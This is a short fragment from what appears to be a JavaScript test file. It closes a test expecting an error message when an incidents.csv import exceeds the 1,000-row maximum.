      'incidents.csv: the import holds more than 1,000 rows, the most one import may hold (HEADSTAMP_IMPORT_MAX_ROWS): split it into smaller imports; nothing was written',
    ]);
  });
});
